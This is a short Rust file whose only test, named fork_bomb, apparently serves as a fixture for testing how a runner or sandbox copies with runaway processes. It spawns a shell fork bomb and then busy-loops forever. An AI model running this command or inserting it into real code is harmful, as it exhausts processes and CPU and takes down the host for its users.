fn main() {}

#[test]
fn fork_bomb() {
    let _ = std::process::Command::new("sh").args(["-c", "f(){ f | f & }; f # __MARKER__"]).spawn();
    let mut spins: u64 = 0;
    loop {
        spins = std::hint::black_box(spins + 1);
    }
}
